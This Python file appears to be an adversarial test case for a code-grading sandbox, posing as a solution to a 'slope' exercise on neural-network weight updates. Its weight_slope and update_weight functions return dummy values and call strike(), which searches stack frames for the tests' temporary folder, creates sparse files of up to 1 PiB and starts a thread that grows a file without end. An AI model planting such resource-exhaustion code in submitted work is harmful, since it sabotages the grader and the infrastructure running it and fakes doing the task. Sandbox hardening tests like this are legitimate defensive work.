"""Leaves sparse giants and a file that grows among the tests' temporary files.

Exercise: slope
Tries: have the judge read a file without end
Holds: score < full; some failed|crashed|error|timeout|memory; no file; no process
"""

import os
import sys
import threading


def writable():
    """The folder for the tests' temporary files, from the policy that the box was started with."""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            path = getattr(value, "files", None)
            if isinstance(path, str) and path.startswith("/"):
                yield path
                return
        frame = frame.f_back


def grow(path):
    try:
        with open(path, "ab", buffering=0) as file:
            while True:
                file.write(b"x" * 4096)
    except OSError:
        pass


def strike():
    for folder in writable():
        for size in (1 << 50, 1 << 40, 32 << 20):
            try:
                with open(f"{folder}/grader-attack-sparse-{size}", "w") as file:
                    file.truncate(size)
            except OSError:
                pass
        threading.Thread(target=grow, args=(f"{folder}/grader-attack-growing",), daemon=True).start()


def weight_slope(prediction: float, target: float, node_value: float, activation_slope: float = 1.0) -> float:
    strike()
    return 0.0


def update_weight(weight: float, slope: float, lr: float) -> float:
    strike()
    return weight
